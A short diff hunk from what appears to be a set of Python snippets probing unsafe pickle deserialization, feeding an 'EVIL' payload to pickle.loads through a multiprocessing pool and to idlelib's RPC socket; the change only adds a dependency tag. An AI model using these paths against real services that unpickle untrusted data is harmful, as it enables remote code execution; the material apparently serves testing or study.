@@ -196,7 +196,7 @@ from multiprocessing import get_context
 with get_context("fork").Pool(1) as p:
     try: p.map(pickle.loads, [EVIL])
     except Exception as e: print(e)
-### idle-rpc
+### idle-rpc needs=idlelib
 import idlelib.rpc as r, socket, threading, struct
 a, b = socket.socketpair(); s = r.SocketIO(b)
 a.sendall(struct.pack("<i", len(EVIL)) + EVIL)
